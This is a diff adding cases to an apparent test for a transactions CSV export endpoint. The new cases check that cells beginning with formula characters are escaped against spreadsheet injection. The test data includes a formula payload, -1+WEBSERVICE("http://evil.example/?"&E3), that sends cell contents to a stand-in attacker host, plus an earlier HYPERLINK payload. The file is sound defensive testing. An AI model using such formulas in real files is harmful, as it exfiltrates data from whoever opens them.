@@ -81,6 +81,12 @@ describe("GET /api/v1/transactions/export.csv", () => {
     expect(row).toContain(`"'=HYPERLINK(""http://evil"")"`);
     expect(row).toContain("'+1 card");
     expect(row.endsWith(created.id)).toBe(true);
+    // A minus and a digit start a formula too, unless the cell is a plain number.
+    await createTransaction({ transaction_date: "2031-01-03", description: '-1+WEBSERVICE("http://evil.example/?"&E3)', source_account: "-42" });
+    const next = (await call("GET", "/api/v1/transactions/export.csv?start_date=2031-01-03")).body as string;
+    expect(next).toContain(`"'-1+WEBSERVICE(""http://evil.example/?""&E3)"`);
+    expect(next).toContain(",-42,");
+    expect(next).toContain(",-100.00,");
   });
 
   it("answers only the header when nothing matches, and 422 for a bad filter", async () => {
